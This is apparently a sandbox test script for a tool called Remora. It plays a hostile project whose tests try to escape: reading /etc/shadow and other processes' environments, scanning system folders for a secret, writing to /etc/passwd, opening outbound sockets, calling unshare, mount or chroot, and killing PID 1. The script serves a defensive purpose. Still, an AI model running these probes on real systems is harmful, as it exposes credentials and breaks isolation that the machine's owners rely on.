"""What a hostile project tries when its tests are run. Copied into it as `attempts.py`; prints `LEAK name` for each
attempt that got something, and `TRIED n` at the end. Started with a JSON file that says what there is to get.
"""

# ruff: noqa: BLE001, S112, T201
from __future__ import annotations

import ctypes
import json
import os
import socket
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

HERE = Path(__file__).resolve().parent
GOAL = json.loads((HERE / "goal.json").read_text())
GOAL["secret"] = GOAL["terces"][::-1]  # so that the secret is in no file of the project itself
SU = ["/usr/bin/su", "-c", "true"]
LIBC = ctypes.CDLL(None, use_errno=True)


def read(path: str) -> Callable[[], bool]:
    return lambda: GOAL["secret"] in Path(path).read_text(errors="replace")


def anything_in(path: str) -> Callable[[], bool]:
    return lambda: bool(list(Path(path).iterdir()))


def write(path: str) -> Callable[[], bool]:
    def attempt() -> bool:
        with Path(path).open("a") as file:
            file.write("# was here\n")
        return True

    return attempt


def can_write(path: str) -> Callable[[], bool]:
    """Opened, but left as it is: the sandbox might be broken, and this machine is someone's."""
    return lambda: os.close(os.open(path, os.O_WRONLY)) is None


def connect(family: int, kind: int, address: object) -> Callable[[], bool]:
    def attempt() -> bool:
        with socket.socket(family, kind) as door:
            door.settimeout(1)
            door.connect(address)  # type: ignore[arg-type]
            return door.send(b"leak") > 0

    return attempt


def call(name: str, *args: object) -> Callable[[], bool]:
    return lambda: getattr(LIBC, name)(*args) >= 0


def environments() -> bool:
    everything = str(dict(os.environ))
    for process in Path("/proc").glob("[0-9]*/environ"):
        try:
            everything += process.read_text(errors="replace")
        except OSError:
            continue
    return GOAL["secret"] in everything


def scan(folder: str) -> Callable[[], bool]:
    """Whether the secret is in any small file below."""

    def attempt() -> bool:
        for path in Path(folder).rglob("*"):
            try:
                if path.is_file() and path.stat().st_size < 5000 and GOAL["secret"] in path.read_text(errors="replace"):
                    return True
            except OSError:
                continue
        return False

    return attempt


def memory_of(pid: int) -> Callable[[], bool]:
    def attempt() -> bool:
        with open(f"/proc/{pid}/maps") as maps:
            return bool(maps.read())

    return attempt


def open_files(folder: str) -> list[str]:
    """Descriptors of plain files that can be opened by their name."""
    found = []
    for name in os.listdir(folder):
        try:
            target = os.readlink(f"{folder}/{name}")
            os.close(os.open(f"{folder}/{name}", os.O_RDWR))
        except OSError:
            continue
        if not target.startswith(("/dev/", "pipe:", "socket:", "anon_inode:")):
            found.append(name)
    return found


def attempts() -> dict[str, Callable[[], bool]]:
    outside, home, root = GOAL["outside"], GOAL["home"], GOAL["root"]
    unix, inet = socket.AF_UNIX, socket.AF_INET
    return {
        "read outside": read(f"{outside}/secret"),
        "read outside by a link": read(f"{HERE}/link/secret"),
        "read outside by the root of 1": read(f"/proc/1/root{outside}/secret"),
        "read outside by the folder of 1": read(f"/proc/1/cwd{outside}/secret"),
        "read outside by a path upwards": read(f"{HERE}/../outside/secret"),
        "list the folder above": anything_in(outside),
        "list the home": anything_in(home),
        "read the history": read(f"{root}/.git/config"),
        "read other agents' work": read(f"{root}/.agentfs/traces/x.jsonl"),
        "find it in /run": scan("/run"),
        "find it in /tmp": scan("/tmp"),
        "find it in /home": scan("/home"),
        "find it in /etc": scan("/etc"),
        "read /etc/shadow": lambda: bool(Path("/etc/shadow").read_text()),
        "list /root": anything_in("/root"),
        "list /var": lambda: any(path.name != "tmp" for path in Path("/var").iterdir()),
        "list /sys": anything_in("/sys"),
        "environment": environments,
        "write outside": write(f"{outside}/victim"),
        "write outside by a link": write(f"{HERE}/link/victim"),
        "write to the interpreter": can_write(f"{os.path.dirname(os.__file__)}/os.py"),
        "write to the system": can_write("/usr/bin/env"),
        "write to /etc": can_write("/etc/passwd"),
        "write to the root": lambda: os.mkdir("/was-here") is None,
        "tcp to the machine": connect(inet, socket.SOCK_STREAM, ("127.0.0.1", GOAL["tcp"])),
        "udp to the machine": lambda: connect(inet, socket.SOCK_DGRAM, ("192.0.2.1", 53))(),
        "tcp to the world": connect(inet, socket.SOCK_STREAM, ("192.0.2.1", 80)),
        "abstract socket": connect(unix, socket.SOCK_STREAM, "\0" + GOAL["abstract"]),
        "socket in the project": connect(unix, socket.SOCK_STREAM, f"{root}/door"),
        "socket to the machine's host": lambda: bool(socket.socket(40, socket.SOCK_STREAM)),
        "raw packets": lambda: bool(socket.socket(17, socket.SOCK_RAW)),
        "see Remora's process": lambda: os.kill(GOAL["pid"], 0) is None,
        "memory of 1": memory_of(1),
        "descriptors of 1": lambda: bool(open_files("/proc/1/fd")),
        "signal to 1": lambda: os.kill(1, 9) is None and not Path("/proc/1").exists(),
        "new user namespace": call("unshare", 0x10000000),
        "new mount namespace": call("unshare", 0x00020000),
        "mount": call("mount", b"x", b"/tmp", b"tmpfs", 0, None),
        "unmount": call("umount2", f"{root}/.git".encode(), 2),
        "change the root": call("chroot", b"/tmp"),
        "key rings": call("syscall", 250, 0, -3, 1),
        "user id 0": lambda: os.setuid(0) is None,
        "memory without a limit": lambda: bool(os.memfd_create("x")),
        "device": lambda: os.mknod("/tmp/disk", 0o60600, os.makedev(8, 0)) is None,
        "set-user-id program": lambda: subprocess.run(SU, capture_output=True).returncode == 0,
        "Remora's descriptors": lambda: any(int(number) > 2 for number in open_files("/proc/self/fd")),
    }


HARMLESS = ("read outside", "write outside", "tcp to the machine", "abstract socket", "see Remora's process")
"""What may be tried where nothing holds it back: it only touches what a test has put there."""


def main(where: str) -> None:
    tried = {name: attempt for name, attempt in attempts().items() if name in HARMLESS or GOAL["everything"]}
    for name, attempt in tried.items():
        try:
            got = attempt()
        except Exception:
            continue
        if got:
            print(f"LEAK {where}: {name}", flush=True)
    print(f"TRIED {len(tried)} {where}", flush=True)


if __name__ == "__main__":
    main(sys.argv[1])
